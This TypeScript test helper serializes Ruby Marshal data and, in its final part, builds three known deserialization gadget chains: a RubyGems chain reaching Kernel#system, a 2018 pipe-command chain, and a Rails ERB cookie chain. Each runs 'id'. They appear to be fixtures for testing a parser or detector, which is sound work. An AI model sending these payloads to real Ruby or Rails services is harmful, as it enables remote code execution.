/**
 * A Ruby-free Marshal 4.8 writer for tests (marshal.c `w_*` encodings):
 * values are closures that write themselves, symbols repeat as symlinks.
 */

export class Writer {
  readonly out: number[] = [4, 8];
  private readonly symbols = new Map<string, number>();

  byte(c: number | string): void {
    this.out.push(typeof c === 'string' ? c.charCodeAt(0) : c);
  }

  bytes(s: string | Uint8Array): void {
    if (typeof s === 'string') for (let i = 0; i < s.length; i++) this.out.push(s.charCodeAt(i) & 0xff);
    else for (const b of s) this.out.push(b);
  }

  /** marshal.c `w_long`. */
  long(n: number): void {
    if (n === 0) return this.byte(0);
    if (n > 0 && n < 123) return this.byte(n + 5);
    if (n < 0 && n > -124) return this.byte((n - 5) & 0xff);
    const buf: number[] = [];
    let x = n;
    for (let i = 0; i < 4; i++) {
      buf.push(x & 0xff);
      x >>= 8;
      if (x === 0 || x === -1) break;
    }
    this.byte(n > 0 ? buf.length : -buf.length & 0xff);
    for (const b of buf) this.byte(b);
  }

  symbol(name: string): void {
    const known = this.symbols.get(name);
    if (known !== undefined) {
      this.byte(';');
      this.long(known);
      return;
    }
    this.symbols.set(name, this.symbols.size);
    this.byte(':');
    this.long(name.length);
    this.bytes(name);
  }

  result(): Uint8Array {
    return new Uint8Array(this.out);
  }
}

export type M = (w: Writer) => void;

export function dump(v: M): Uint8Array {
  const w = new Writer();
  v(w);
  return w.result();
}

export const nil: M = (w) => w.byte('0');
export const yes: M = (w) => w.byte('T');
export const no: M = (w) => w.byte('F');
export const int = (n: number): M => (w) => { w.byte('i'); w.long(n); };
export const sym = (name: string): M => (w) => w.symbol(name);
/** Binary string (no encoding ivar). */
export const bin = (s: string): M => (w) => { w.byte('"'); w.long(s.length); w.bytes(s); };
/** UTF-8 string as Ruby dumps it: `I"..."` with `E: true`. */
export const str = (s: string): M => (w) => { w.byte('I'); bin(s)(w); w.long(1); w.symbol('E'); w.byte('T'); };
export const float = (s: string): M => (w) => { w.byte('f'); w.long(s.length); w.bytes(s); };
export const bignum = (sign: '+' | '-', shorts: number): M => (w) => {
  w.byte('l'); w.byte(sign); w.long(shorts); w.bytes('\x01\x00'.repeat(shorts));
};
export const regexp = (src: string, opts = 0): M => (w) => { w.byte('I'); w.byte('/'); w.long(src.length); w.bytes(src); w.byte(opts); w.long(1); w.symbol('E'); w.byte('F'); };
export const arr = (...items: M[]): M => (w) => { w.byte('['); w.long(items.length); items.forEach((i) => i(w)); };
export const hash = (pairs: [M, M][], dflt?: M): M => (w) => {
  w.byte(dflt ? '}' : '{'); w.long(pairs.length);
  for (const [k, v] of pairs) { k(w); v(w); }
  if (dflt) dflt(w);
};
export const link = (index: number): M => (w) => { w.byte('@'); w.long(index); };
export const obj = (cls: string, ivars: [string, M][] = []): M => (w) => {
  w.byte('o'); w.symbol(cls); w.long(ivars.length);
  for (const [k, v] of ivars) { w.symbol(k); v(w); }
};
export const struct = (cls: string, members: [string, M][]): M => (w) => {
  w.byte('S'); w.symbol(cls); w.long(members.length);
  for (const [k, v] of members) { w.symbol(k); v(w); }
};
export const userMarshal = (cls: string, data: M): M => (w) => { w.byte('U'); w.symbol(cls); data(w); };
export const userDef = (cls: string, data: string): M => (w) => { w.byte('u'); w.symbol(cls); w.long(data.length); w.bytes(data); };
export const data = (cls: string, v: M): M => (w) => { w.byte('d'); w.symbol(cls); v(w); };
export const extended = (mod: string, v: M): M => (w) => { w.byte('e'); w.symbol(mod); v(w); };
export const userClass = (cls: string, v: M): M => (w) => { w.byte('C'); w.symbol(cls); v(w); };
export const klass = (name: string): M => (w) => { w.byte('c'); w.long(name.length); w.bytes(name); };
export const module = (name: string): M => (w) => { w.byte('m'); w.long(name.length); w.bytes(name); };

/** The 2021+ universal RubyGems gadget (SpecFetcher, Requirement, TarReader, BufferedIO, WriteAdapter, RequestSet). */
export const universalGadget: M = arr(
  obj('Gem::SpecFetcher'),
  userMarshal('Gem::Requirement', arr(arr(
    obj('Gem::Package::TarReader', [['@io', obj('Net::BufferedIO', [
      ['@io', obj('Gem::Package::TarReader::Entry', [['@read', int(0)], ['@header', str('aaa')]])],
      ['@debug_output', obj('Net::WriteAdapter', [
        ['@socket', obj('Gem::RequestSet', [
          ['@sets', obj('Net::WriteAdapter', [['@socket', module('Kernel')], ['@method_id', sym('system')]])],
          ['@git_set', str('id')],
        ])],
        ['@method_id', sym('resolve')],
      ])],
    ])]]),
  ))),
);

/** The 2018 gadget (Ruby <= 2.7): Requirement -> DependencyList -> SpecificFile -> StubSpecification. */
export const gadget2018: M = arr(
  obj('Gem::Installer'),
  userMarshal('Gem::Requirement', arr(obj('Gem::DependencyList', [
    ['@specs', arr(
      obj('Gem::Source::SpecificFile', [['@spec', obj('Gem::StubSpecification', [['@loaded_from', str('|id 1>&2')]])]]),
      obj('Gem::Source::SpecificFile', [['@spec', obj('Gem::StubSpecification', [['@loaded_from', str('|id 1>&2')]])]]),
    )],
    ['@development', yes],
  ]))),
);

/** Rails cookie chain: DeprecatedInstanceVariableProxy wrapping an ERB template. */
export const erbProxy: M = obj('ActiveSupport::Deprecation::DeprecatedInstanceVariableProxy', [
  ['@instance', obj('ERB', [['@src', str('%x(id)')], ['@filename', str('1')], ['@lineno', int(1)]])],
  ['@method', sym('result')],
  ['@var', str('@result')],
  ['@deprecator', obj('ActiveSupport::Deprecation', [])],
]);
